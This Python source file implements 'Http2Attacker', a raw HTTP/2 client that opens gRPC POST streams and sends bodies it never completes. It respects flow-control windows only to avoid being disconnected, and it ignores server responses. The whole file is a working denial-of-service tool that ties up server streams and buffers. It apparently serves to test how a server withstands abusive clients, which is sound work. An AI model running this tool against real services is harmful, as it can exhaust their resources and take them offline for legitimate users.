"""A bare HTTP/2 connection that opens calls and sends bodies without end: a misbehaving client.

It respects the server's windows, because otherwise the server would end the connection, and nothing else: it ignores
responses and continues after them.
"""

import selectors
import socket
import struct
import time

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _GOAWAY, _WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
_ACK, _END_HEADERS = 1, 4
_STREAMS_MAX, _INITIAL_WINDOW = 3, 4
_WINDOW_BYTES = 65_535
_FRAME_BYTES = 16_384
_HEAD_BYTES = 9
_STREAM_MASK = 0x7FFF_FFFF


class _Upload:
    """One call: the unsent part of its body, and its window."""

    def __init__(self, window: int, body_bytes: int) -> None:
        self.window = window
        self.unsent = body_bytes
        self.prefix = struct.pack(">BI", 0, body_bytes + 1)  # the last byte is never sent


class Http2Attacker:
    """One connection: `open`, then `push` while data moves, then `close`."""

    def __init__(self, host: str, port: int, source: str = "") -> None:
        self._socket = socket.create_connection((host, port), 10, (source, 0) if source else None)
        self._authority = f"{host}:{port}"
        self._received = bytearray()
        self._unsent = bytearray(_PREFACE + _frame(_SETTINGS, 0, 0))
        self._uploads: dict[int, _Upload] = {}
        self._window = self._initial_window = _WINDOW_BYTES
        self._next_id = 1
        #: The number of calls that were opened, and of those that the server has ended.
        self.opened = self.refused = 0
        #: Bytes of bodies that the server's windows allowed.
        self.sent_bytes = 0
        self.is_over = False
        #: The server's limit of concurrent calls; 0: unlimited.
        self.streams_max = 0
        self._socket.setblocking(False)  # noqa: FBT003 - the socket's signature
        self._selector = selectors.DefaultSelector()
        self._selector.register(self._socket, selectors.EVENT_READ | selectors.EVENT_WRITE)

    def open(self, path: str, body_bytes: int, token: str = "") -> None:
        """Begins a call with a message of this size."""
        pairs = [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", self._authority),
            ("te", "trailers"),
            ("content-type", "application/grpc"),
            *([("authorization", f"Bearer {token}")] if token else []),
        ]
        block = b"".join(b"\0" + _text(name) + _text(value) for name, value in pairs)
        self._unsent += _frame(_HEADERS, _END_HEADERS, self._next_id, block)
        self._uploads[self._next_id] = _Upload(self._initial_window, body_bytes)
        self._next_id += 2
        self.opened += 1

    def push(self, quiet_s: float) -> None:
        """Sends and receives until no data has moved for `quiet_s`, or the server has ended the connection."""
        moved_at = time.monotonic()
        while not self.is_over and time.monotonic() - moved_at < quiet_s:
            self._fill()
            if self._receive() or self._send():
                moved_at = time.monotonic()
            else:
                wanted = selectors.EVENT_READ | (selectors.EVENT_WRITE if self._unsent else 0)
                self._selector.modify(self._socket, wanted)
                self._selector.select(0.05)

    def close(self) -> None:
        """Closes the connection."""
        self._selector.close()
        self._socket.close()

    def _fill(self) -> None:
        """Buffers as much of every body as the windows allow, in turns."""
        for stream, upload in self._uploads.items():
            if len(self._unsent) > 16 * _FRAME_BYTES:
                return
            room = min(upload.window, self._window, upload.unsent + len(upload.prefix), _FRAME_BYTES)
            if room <= len(upload.prefix):
                continue
            data = upload.prefix + bytes(room - len(upload.prefix))
            upload.unsent -= room - len(upload.prefix)
            upload.prefix = b""
            upload.window -= room
            self._window -= room
            self.sent_bytes += room
            self._unsent += _frame(_DATA, 0, stream, data)

    def _send(self) -> bool:
        if not self._unsent:
            return False
        try:
            sent = self._socket.send(self._unsent)
        except BlockingIOError:
            return False
        except OSError:
            self.is_over = True
            return False
        del self._unsent[:sent]
        return True

    def _receive(self) -> bool:
        try:
            data = self._socket.recv(262_144)
        except BlockingIOError:
            return False
        except OSError:
            data = b""
        if not data:
            self.is_over = True
            return False
        self._received += data
        while len(self._received) >= _HEAD_BYTES:
            length = int.from_bytes(self._received[:3])
            if len(self._received) < _HEAD_BYTES + length:
                break
            kind, flags = self._received[3], self._received[4]
            stream = int.from_bytes(self._received[5:9]) & _STREAM_MASK
            payload = bytes(self._received[_HEAD_BYTES : _HEAD_BYTES + length])
            del self._received[: _HEAD_BYTES + length]
            self._heed(kind, flags, stream, payload)
        return True

    def _heed(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == _SETTINGS and not flags & _ACK:
            self._unsent += _frame(_SETTINGS, _ACK, 0)
            said = dict(struct.iter_unpack(">HI", payload))
            self.streams_max = said.get(_STREAMS_MAX, self.streams_max)
            self._set_windows(said.get(_INITIAL_WINDOW, self._initial_window))
        elif kind == _PING and not flags & _ACK:
            self._unsent += _frame(_PING, _ACK, 0, payload)
        elif kind == _WINDOW_UPDATE:
            self._widen(stream, int.from_bytes(payload) & _STREAM_MASK)
        elif kind == _RST_STREAM:
            self.refused += self._uploads.pop(stream, None) is not None
        elif kind == _GOAWAY:
            self.is_over = True

    def _set_windows(self, initial: int) -> None:
        for upload in self._uploads.values():
            upload.window += initial - self._initial_window
        self._initial_window = initial

    def _widen(self, stream: int, more: int) -> None:
        if not stream:
            self._window += more
        elif stream in self._uploads:
            self._uploads[stream].window += more


def _text(text: str) -> bytes:
    """Encodes a string for HPACK, without compression."""
    return bytes([len(text)]) + text.encode()


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
